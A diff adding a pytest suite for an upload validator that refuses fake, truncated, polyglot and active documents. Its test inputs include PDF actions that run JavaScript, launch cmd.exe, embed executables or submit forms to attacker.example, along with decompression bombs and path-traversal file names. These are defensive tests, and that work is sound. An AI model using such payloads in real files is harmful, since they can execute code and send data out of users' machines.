@@ -1,0 +1,201 @@
+"""Uploaded documents are parsed far enough to refuse fakes, cut-short files, polyglots and active PDFs."""
+
+from __future__ import annotations
+
+import io
+import struct
+import zipfile
+import zlib
+
+import pytest
+
+from cases.documents import Upload, safe_file_name
+from cases.errors import DamagedDocumentError, EmptyDocumentError, UnacceptableDocumentError, UnsafeDocumentError
+from tests.samples import PAGE, PDF, PNG, jpeg_image, jpeg_segment, pdf_document, png_chunk, png_image
+
+
+def accept(content: bytes, name: str = "sənəd"):
+    return Upload(field="address_document", name=name, content=content).accept()
+
+
+def refusal(content: bytes) -> UnacceptableDocumentError:
+    with pytest.raises(UnacceptableDocumentError) as raised:
+        accept(content)
+    assert "address_document" in raised.value.detail
+    return raised.value
+
+
+def a_zip(member: bytes = b"payload") -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("readme.txt", member)
+    return buffer.getvalue()
+
+
+def object_stream(*objects: bytes, compress: bool = True) -> bytes:
+    """An object stream (/Type /ObjStm) packing the given objects, numbered from 10."""
+    offsets, body = [], b""
+    for obj in objects:
+        offsets.append(len(body))
+        body += obj + b"\n"
+    header = b" ".join(b"%d %d" % (10 + i, off) for i, off in enumerate(offsets)) + b"\n"
+    data = header + body
+    packed = zlib.compress(data) if compress else data
+    filters = b" /Filter /FlateDecode" if compress else b""
+    return (b"<< /Type /ObjStm /N %d /First %d /Length %d%s >>\nstream\n" % (len(objects), len(header), len(packed), filters)
+            + packed + b"\nendstream")
+
+
+# --- what is accepted ---------------------------------------------------------------------------------
+
+@pytest.mark.parametrize(("content", "media_type"), [
+    (PDF, "application/pdf"), (PNG, "image/png"), (jpeg_image(), "image/jpeg"),
+    (png_image(37, 11), "image/png"), (pdf_document(*PAGE, object_stream(b"<< /Title (Aray\xfd\xfe) >>")), "application/pdf"),
+    (jpeg_image() + jpeg_image(), "image/jpeg"),  # a phone's multi-picture file: the photo and its preview
+    (PDF + b"\r\n", "application/pdf"),
+], ids=["pdf", "png", "jpeg", "png-37x11", "pdf-object-stream", "jpeg-with-preview", "pdf-trailing-newline"])
+def test_whole_documents_of_the_accepted_types_are_accepted(content, media_type):
+    ref, kept = accept(content)
+    assert (ref.media_type, kept) == (media_type, content)
+
+
+def test_an_interlaced_png_is_accepted():
+    rows = b"".join(b"\x00" + b"\x80" * 3 * w for w, h in [(1, 1), (1, 1), (2, 1), (2, 2), (4, 2), (4, 4), (8, 4)] for _ in range(h))
+    header = struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 1)
+    interlaced = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(rows)) + png_chunk(b"IEND", b"")
+    assert accept(interlaced)[0].media_type == "image/png"
+
+
+# --- fakes: the right first bytes, the wrong file -------------------------------------------------------
+
+def test_a_png_header_on_a_zip_archive_is_refused():
+    assert isinstance(refusal(b"\x89PNG\r\n\x1a\n" + a_zip()), (DamagedDocumentError, UnsafeDocumentError))
+
+
+@pytest.mark.parametrize("content", [b"%PDF-1.4\n" + a_zip(), b"\xff\xd8\xff\xe0" + a_zip()], ids=["pdf", "jpeg"])
+def test_a_pdf_or_jpeg_header_on_a_zip_archive_is_refused(content):
+    refusal(content)
+
+
+def test_a_png_whose_chunk_checksum_does_not_match_is_refused_as_damaged():
+    broken = bytearray(PNG)
+    broken[30] ^= 0xFF  # inside IHDR's data
+    assert isinstance(refusal(bytes(broken)), DamagedDocumentError)
+
+
+def test_a_png_whose_image_data_is_not_compressed_data_is_refused_as_damaged():
+    header = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
+    fake = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", b"not zlib at all") + png_chunk(b"IEND", b"")
+    assert isinstance(refusal(fake), DamagedDocumentError)
+
+
+def test_a_png_of_absurd_dimensions_is_refused_before_anything_is_decompressed():
+    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 6, 0, 0, 0)
+    bomb = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(b"\x00" * 1000)) + png_chunk(b"IEND", b"")
+    assert "million pixels" in refusal(bomb).detail
+
+
+def test_a_jpeg_without_a_frame_or_scan_is_refused_as_damaged():
+    headers_only = b"\xff\xd8" + jpeg_segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00") + b"\xff\xd9"
+    assert isinstance(refusal(headers_only), DamagedDocumentError)
+
+
+# --- cut short ------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("content", [PDF[: len(PDF) // 2], PNG[:-12], PNG[:-20], jpeg_image()[:-2], jpeg_image()[:40],
+                                     b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff"],
+                         ids=["pdf-half", "png-no-iend", "png-cut-in-idat", "jpeg-no-eoi", "jpeg-cut-in-tables",
+                              "pdf-header-only", "png-signature-only", "jpeg-signature-only"])
+def test_a_truncated_document_is_refused_as_damaged(content):
+    assert isinstance(refusal(content), DamagedDocumentError)
+
+
+def test_a_pdf_without_a_cross_reference_section_is_refused_as_damaged():
+    assert isinstance(refusal(b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"), DamagedDocumentError)
+
+
+def test_a_zero_byte_file_is_refused_as_empty():
+    with pytest.raises(EmptyDocumentError):
+        accept(b"")
+
+
+# --- polyglots -------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("content", [PNG + a_zip(), jpeg_image() + a_zip(), PDF + a_zip()], ids=["png", "jpeg", "pdf"])
+def test_a_document_that_is_also_a_zip_archive_is_refused_as_unsafe(content):
+    assert isinstance(refusal(content), UnsafeDocumentError)
+
+
+def test_a_zip_hidden_inside_a_jpeg_comment_is_refused_as_unsafe():
+    image = jpeg_image()
+    hidden = image[:2] + jpeg_segment(0xFE, a_zip()) + image[2:]
+    assert isinstance(refusal(hidden), UnsafeDocumentError)
+
+
+def test_an_image_that_is_also_a_pdf_is_refused_as_unsafe():
+    text_chunk = png_chunk(b"tEXt", b"Comment\x00%PDF-1.4 1 0 obj << /Type /Catalog >> endobj")
+    assert isinstance(refusal(png_image(extra_chunks=text_chunk)), UnsafeDocumentError)
+
+
+@pytest.mark.parametrize("tail", [b"<html><script>alert(1)</script></html>", b"\x00" * 3 + b"MZ\x90\x00"],
+                         ids=["html", "executable"])
+def test_an_image_with_anything_after_its_end_is_refused_as_unsafe(tail):
+    assert isinstance(refusal(PNG + tail), UnsafeDocumentError)
+    assert isinstance(refusal(jpeg_image() + tail), UnsafeDocumentError)
+
+
+# --- active PDFs -----------------------------------------------------------------------------------------
+
+CATALOG_WITH = "<< /Type /Catalog /Pages 2 0 R {} >>"
+
+
+@pytest.mark.parametrize("addition", [
+    "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
+    "/OpenAction << /S /Launch /F (cmd.exe) >>",
+    "/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
+    "/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
+    "/AA << /O << /S /SubmitForm /F (https://attacker.example) >> >>",
+    "/AcroForm << /XFA 5 0 R >>",
+], ids=["javascript", "launch", "embedded-file", "hex-escaped-javascript", "submit-form", "xfa"])
+def test_a_pdf_that_runs_code_launches_programs_or_carries_files_is_refused_as_unsafe(addition):
+    catalog = CATALOG_WITH.format(addition).encode()
+    assert isinstance(refusal(pdf_document(catalog, *PAGE[1:])), UnsafeDocumentError)
+
+
+def test_javascript_packed_in_a_compressed_object_stream_is_found_and_refused():
+    hidden = object_stream(b"<< /S /JavaScript /JS (app.launchURL\\('https://x'\\)) >>")
+    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >>"
+    assert isinstance(refusal(pdf_document(catalog, *PAGE[1:], hidden)), UnsafeDocumentError)
+
+
+def test_an_object_stream_that_cannot_be_inspected_is_refused_as_unsafe():
+    packed = b"<< /Type /ObjStm /N 1 /First 5 /Length 10 /Filter /LZWDecode >>\nstream\n0123456789\nendstream"
+    assert isinstance(refusal(pdf_document(*PAGE, packed)), UnsafeDocumentError)
+
+
+def test_an_object_stream_that_would_unfold_beyond_the_budget_is_refused():
+    packed = zlib.compress(b" " * (40 * 1024 * 1024), 9)
+    bomb = b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode >>\nstream\n" + packed + b"\nendstream"
+    assert isinstance(refusal(pdf_document(*PAGE, bomb)), UnsafeDocumentError)
+
+
+def test_the_letters_js_inside_binary_image_data_do_not_make_a_pdf_unsafe():
+    image = b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode /Length 12 >>\nstream\n\x00/JS /Launch\x00\nendstream"
+    assert accept(pdf_document(*PAGE, image))[0].media_type == "application/pdf"
+
+
+def test_an_ordinary_hyperlink_in_a_pdf_is_accepted():
+    link = b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.azersu.az) >> >>"
+    assert accept(pdf_document(*PAGE, link))[0].media_type == "application/pdf"
+
+
+# --- names ------------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize(("given", "kept"), [
+    ("../../etc/passwd", "passwd"), ("C:\\Windows\\system32\\çıxarış.pdf", "çıxarış.pdf"), (".htaccess", "htaccess"),
+    ("a\x00b\nc.pdf", "abc.pdf"), ("", "document"), ("x" * 500 + ".pdf", "x" * 120),
+    ("c\u0327ixaris\u0327.pdf", "çixariş.pdf"),
+], ids=["traversal", "windows-path", "hidden", "control-characters", "empty", "long", "decomposed-letters"])
+def test_an_original_file_name_is_kept_only_as_a_harmless_display_name(given, kept):
+    assert safe_file_name(given) == kept
+    assert accept(PDF, name=given)[0].name == kept
